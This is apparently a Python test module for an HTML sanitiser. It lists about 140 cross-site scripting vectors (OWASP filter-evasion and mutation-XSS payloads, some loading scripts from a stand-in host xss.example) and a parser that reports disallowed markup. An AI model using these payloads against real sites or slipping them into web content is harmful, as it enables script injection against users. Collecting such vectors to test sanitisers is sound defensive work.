"""Markup that tries to be more than text, and a judge of whether any of it is left.

The vectors are OWASP's filter evasion list, and what parsers make of broken nesting (mutation XSS).
`faults` says what markup could do in a page, by another parser than the sanitiser's.
"""

import re
from html.parser import HTMLParser

from functions.ingest.markup import rules

VECTORS = (
    "<SCRIPT SRC=https://xss.example/xss.js></SCRIPT>",
    "<script>alert(1)</script>",
    "<<SCRIPT>alert(1);//\\<</SCRIPT>",
    "<SCRIPT/XSS SRC='https://xss.example/xss.js'></SCRIPT>",
    "<SCRIPT/SRC='https://xss.example/xss.js'></SCRIPT>",
    "<SCRIPT SRC=https://xss.example/xss.js?< B >",
    "<SCRIPT SRC=//xss.example/.j>",
    "</TITLE><SCRIPT>alert(1);</SCRIPT>",
    "<SCRIPT a='>' SRC='https://xss.example/xss.js'></SCRIPT>",
    "<SCRIPT>document.write('<SCRI');</SCRIPT>PT SRC='https://xss.example/xss.js'></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<BODY BACKGROUND='javascript:alert(1)'>",
    "<BODY ONLOAD=alert(1)>",
    "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(1)>",
    "<IMG SRC='javascript:alert(1);'>",
    "<IMG SRC=javascript:alert(1)>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    "<IMG SRC=javascript:alert(&quot;1&quot;)>",
    "<IMG SRC=`javascript:alert(1)`>",
    '<IMG """><SCRIPT>alert(1)</SCRIPT>"\\>',
    "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>",
    "<IMG SRC=# onmouseover='alert(1)'>",
    "<IMG SRC= onmouseover='alert(1)'>",
    "<IMG onmouseover='alert(1)'>",
    "<IMG SRC=/ onerror='alert(1)'></img>",
    "<img src=x onerror='&#0000106&#0000097&#0000118&#0000097'>",
    "<IMG SRC='jav&#x09;ascript:alert(1);'>",
    "<IMG SRC='jav\tascript:alert(1);'>",
    "<IMG SRC=' &#14; javascript:alert(1);'>",
    "<IMG SRC='javascript:alert(1)'",
    "<IMG DYNSRC='javascript:alert(1)'><IMG LOWSRC='javascript:alert(1)'>",
    "<INPUT TYPE='IMAGE' SRC='javascript:alert(1);'>",
    "<BGSOUND SRC='javascript:alert(1);'>",
    "<BR SIZE='&{alert(1)}'>",
    "<LINK REL='stylesheet' HREF='javascript:alert(1);'>",
    "<STYLE>@import'https://xss.example/xss.css';</STYLE>",
    "<STYLE>li {list-style-image: url('javascript:alert(1)');}</STYLE><UL><LI>x</br>",
    "<META HTTP-EQUIV='refresh' CONTENT='0;url=javascript:alert(1);'>",
    "<META HTTP-EQUIV='Set-Cookie' Content='USERID=<SCRIPT>alert(1)</SCRIPT>'>",
    "<IFRAME SRC='javascript:alert(1);'></IFRAME>",
    "<IFRAME SRC=# onmouseover='alert(1)'></IFRAME>",
    "<iframe src=https://xss.example/scriptlet.html <",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<FRAMESET><FRAME SRC='javascript:alert(1);'></FRAMESET>",
    "<TABLE BACKGROUND='javascript:alert(1)'><TD BACKGROUND='javascript:alert(1)'>x",
    "<DIV STYLE='background-image: url(javascript:alert(1))'>x",
    "<DIV STYLE='width: expression(alert(1));'>x",
    "<XSS STYLE='behavior: url(xss.htc);'>x",
    "<!--[if gte IE 4]><SCRIPT>alert(1);</SCRIPT><![endif]-->x",
    "<BASE HREF='javascript:alert(1);//'><a href='x'>x</a>",
    "<OBJECT TYPE='text/x-scriptlet' DATA='https://xss.example/scriptlet.html'></OBJECT>",
    "<EMBED SRC='data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=' type='image/svg+xml' "
    "AllowScriptAccess='always'></EMBED>",
    "<A HREF='javascript:document.location=\"https://xss.example/\"'>x</A>",
    "<a href='java&Tab;script:alert(1)'>x</a>",
    "<a href='java&NewLine;script:alert(1)'>x</a>",
    "<a href='javascript&colon;alert(1)'>x</a>",
    "<a href='&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='java\0script:alert(1)'>x</a>",
    "<a href='  javascript:alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='data:,x'>x</a>",
    "<a href='blob:https://x.example/1'>x</a>",
    "<a href='file:///etc/passwd'>x</a>",
    "<a href='http:javascript:alert(1)'>x</a>",
    "<a href='https://x.example/\"onmouseover=\"alert(1)'>x</a>",
    "<a href='https://x.example/\" onmouseover=alert(1) x=\"'>x</a>",
    "<a href=https://x.example/><script>alert(1)</script>>x</a>",
    "<a href='https://x.example/' target='_blank' rel='opener' ping='https://spy.example' "
    "download>x</a>",
    "<a href='//xss.example/'>x</a>",
    "<a onmouseover='alert(1)'>x</a>",
    "<a id='location' name='cookie' class='x' href='/'>x</a>",
    "<p id='attributes' contenteditable autofocus onfocus=alert(1) tabindex=1>x",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id='</style><img src=1 onerror=alert(1)>'>",
    "<svg><p><style><g title='</style><img src=x onerror=alert(1)>'>",
    "<math><a xlink:href='javascript:alert(1)'>x</a></math>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 "
    "onerror=alert(1)&gt;'>",
    "<math><mtext><table><mglyph><style><math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding='text/html'><style><img src=x "
    "onerror=alert(1)></style></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<textarea></textarea><script>alert(1)</script>",
    "<title><img src=x onerror=alert(1)></title>",
    "<xmp><p title='</xmp><svg onload=alert(1)>'></xmp>",
    "<noembed><img src=x onerror=alert(1)></noembed>",
    "<plaintext><script>alert(1)</script>",
    "<listing>&lt;img src=1 onerror=alert(1)&gt;</listing>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<select><style></select><img src=x onerror=alert(1)>",
    "<table><td><form action=javascript:alert(1)><input type=submit></table>",
    "<form id=x></form><button form=x formaction=javascript:alert(1)>x</button>",
    "<isindex type=image src=1 onerror=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<video><source onerror=alert(1)></video>",
    "<video poster=javascript:alert(1)//></video>",
    "<video src='javascript:alert(1)'></video>",
    "<audio src=x onerror=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<dialog open onclose=alert(1)>x</dialog>",
    "<object><param name=src value=javascript:alert(1)></object>",
    "<applet code=javascript:alert(1)></applet>",
    "<portal src='javascript:alert(1)'></portal>",
    "<figure data-figure='0' onclick=alert(1)>x</figure>",
    "<figure data-figure='\"><script>alert(1)</script>'></figure>",
    "<ol start='1\" onclick=\"alert(1)'><li>x</ol>",
    "<td colspan='2\" onclick=\"alert(1)'>x",
    "<custom-element onclick=alert(1)>x</custom-element>",
    "<p/onclick=alert(1)/>x",
    "<p\x0conclick=alert(1)>x",
    "<p\u2028onclick=alert(1)>x",
    "<\u0131mg src=x onerror=alert(1)>",
    "<p>\u0338<script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY x '<script>alert(1)</script>'>]>&x;",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<comment><img src=x onerror=alert(1)></comment>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;script&amp;gt;alert(1)",
    "<b><i></b><script>alert(1)</script></i>",
    "<a href='https://x.example'><a href='javascript:alert(1)'>x</a></a>",
    "<p><table><p><a href='https://x.example'><td><a href='javascript:alert(1)'>x",
    "'';!--\"<XSS>=&{()}",
    "<script\x20type='text/javascript'>alert(1);</script>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "<b onclick=alert(1)//",
    '<a href="javascript\x0a:alert(1)">x</a>',
    "<a href='https://x.example/%0d%0aSet-Cookie:x'>x</a>",
    "<a href='mailto:a@b.example?body=<script>alert(1)</script>'>x</a>",
)

_ADDRESS = re.compile(r"https?://[^\s\"<>]+|mailto:[^\s\"<>]+")
_ATTRIBUTES = rules.ALLOWED_ATTRIBUTES | {"a": {"href", "rel"}}


class _Inspector(HTMLParser):
    """Collects what is not allowed."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.faults: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag not in rules.ALLOWED_TAGS:
            self.faults.append(f"<{tag}>")
        for name, value in attrs:
            if name not in _ATTRIBUTES.get(tag, set()):
                self.faults.append(f"<{tag} {name}>")
            if name == "href" and not _ADDRESS.fullmatch(value or ""):
                self.faults.append(f"href {value}")
            if name == "rel" and value != rules.LINK_REL:
                self.faults.append(f"rel {value}")
            if name not in {"href", "rel"} and not (value or "").isdigit():
                self.faults.append(f"{name} {value}")

    def handle_comment(self, data: str) -> None:
        self.faults.append("a comment")

    def handle_decl(self, decl: str) -> None:
        self.faults.append("a declaration")

    def handle_pi(self, data: str) -> None:
        self.faults.append("an instruction")

    def unknown_decl(self, data: str) -> None:
        self.faults.append("CDATA")


def faults(markup: str) -> list[str]:
    """What in some markup is no text, allowed tag or good address; empty if it is inert."""
    inspector = _Inspector()
    inspector.feed(markup)
    inspector.close()
    return inspector.faults
